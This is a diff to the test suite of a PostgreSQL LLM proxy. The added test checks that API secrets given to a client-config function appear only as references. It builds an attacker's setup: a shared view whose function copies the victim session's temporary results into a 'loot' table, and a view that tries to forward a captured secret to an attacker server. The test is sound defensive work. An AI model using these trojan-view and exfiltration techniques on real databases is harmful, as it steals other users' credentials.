@@ -138,9 +138,13 @@ describe('keys by argument and by environment', () => {
 describe('a secret the session handed the proxy', () => {
   const VICTIM_KEY = 'sk-victim-0123456789abcdef';
 
-  /** A database where role trust_user owns schema shared (readable by all), and a session of another role, the victim. */
-  async function sharedSchema() {
+  /**
+   * A database where role trust_user owns schema shared (readable by all), and a session of another role, the victim;
+   * `settings` are the database's (ALTER DATABASE … SET).
+   */
+  async function sharedSchema(settings: string[] = []) {
     const { name, client: direct } = await freshDatabase();
+    for (const setting of settings) await direct.query(`ALTER DATABASE ${name} SET ${setting}`);
     await direct.query(`CREATE SCHEMA shared AUTHORIZATION trust_user; GRANT USAGE ON SCHEMA shared TO PUBLIC`);
     const owner = await clientOf(suite.proxy, name);
     await owner.query('CREATE EXTENSION ai');
@@ -309,6 +313,54 @@ describe('a secret the session handed the proxy', () => {
     await other.query(`SELECT pg_llm_chat('borrowed', 'on the victim''s account')`).catch(() => undefined);
     expect(authorizations()).not.toContain(`Bearer ${VICTIM_KEY}`);
     expect((await other.query(`SELECT count(*)::int AS n FROM _pg_llm_catalog.pg_llm_models WHERE instance_name = 'borrowed'`)).rows).toEqual([{ n: 0 }]);
+  });
+
+  // Review I: openai_client_config echoed the secrets it was given into its result, which reaches the server (the
+  // proxy's results table, a bind parameter its log keeps) and the code of other roles the session then runs.
+  it("given to openai_client_config is in its result only by reference, which opens only in a client_config", async () => {
+    // PostgreSQL's default log_parameter_max_length logs every bind parameter of a logged statement.
+    const { direct, other, victim, attacker } = await sharedSchema([`log_statement = 'all'`]);
+    await other.query(`CREATE TABLE shared.loot (v text); GRANT INSERT ON shared.loot TO PUBLIC;
+                       CREATE FUNCTION shared.grab() RETURNS int LANGUAGE plpgsql AS $$
+                       BEGIN
+                         IF to_regclass('pg_temp.pg_llm_call_results') IS NOT NULL THEN
+                           INSERT INTO shared.loot SELECT value::text FROM pg_temp.pg_llm_call_results;
+                         END IF;
+                         RETURN 1;
+                       END $$;
+                       CREATE VIEW shared.stats AS SELECT shared.grab() AS n; GRANT SELECT ON shared.stats TO PUBLIC`);
+    const header = unique('sk-gateway');
+    const password = unique('pw');
+    const config = `ai.openai_client_config(base_url => 'http://svc:${password}@127.0.0.1:${new URL(suite.fake.baseUrl).port}/v1', default_headers => '{"x-gateway-key": "${header}"}')`;
+    await victim.query('BEGIN');
+    const { rows } = await victim.query(`SELECT ${config} AS c, n FROM shared.stats`);
+    expect(rows[0].c).toEqual({ base_url: expect.stringMatching(/^held by pg_llm proxy /), default_headers: expect.stringMatching(/^held by pg_llm proxy /) });
+    await victim.query('SELECT n FROM shared.stats');
+    await victim.query('COMMIT');
+    const loot = (await direct.query('SELECT string_agg(v, \' \') AS v FROM shared.loot')).rows[0].v as string;
+    expect(loot).toContain('held by pg_llm proxy ');
+    // Given to an OpenAI call of the session, written out or bound, the config's secrets go out as written.
+    const usable = (await victim.query(`SELECT ai.openai_client_config(base_url => '${suite.fake.baseUrl}', default_headers => '{"x-gateway-key": "${header}"}') AS c`)).rows[0].c;
+    expect(usable).toEqual({ base_url: suite.fake.baseUrl, default_headers: expect.stringMatching(/^held by pg_llm proxy /) });
+    suite.fake.requests.length = 0;
+    await victim.query(`SELECT ai.openai_embed('m', 'x', api_key => 'sk-unused-0123456789', client_config => '${JSON.stringify(usable)}')`);
+    await victim.query(`SELECT ai.openai_embed('m', 'x', api_key => 'sk-unused-0123456789', client_config => $1)`, [usable]);
+    expect(suite.fake.requests.map((request) => request.headers['x-gateway-key'])).toEqual([header, header]);
+    // Another role's view building a config of its own around a reference it took sends nothing to its server.
+    const taken = usable.default_headers as string;
+    // Past the proxy, which refuses a view computing a client_config from constants.
+    await direct.query(`SET ROLE trust_user; CREATE VIEW shared.relay AS SELECT 'hello'::text AS body WHERE (ai.openai_embed('m', 'x', api_key => 'sk-other-0123456789',
+                          client_config => jsonb_build_object('base_url', '${attacker.baseUrl}', 'default_headers', '${taken}'::text)) IS NULL) IS NOT NULL;
+                        GRANT SELECT ON shared.relay TO PUBLIC; RESET ROLE`);
+    await expect(victim.query(`SELECT ai.openai_embed('m', body, client_config => $1) FROM shared.relay`, [usable])).rejects.toMatchObject({
+      code: '42501',
+      message: expect.stringContaining('a secret this session handed the proxy goes only to a server the session named itself'),
+    });
+    expect(attacker.requests).toEqual([]);
+    for (const secret of [header, password]) {
+      expect(loot).not.toContain(secret);
+      expect(serverLog()).not.toContain(secret);
+    }
   });
 });
 
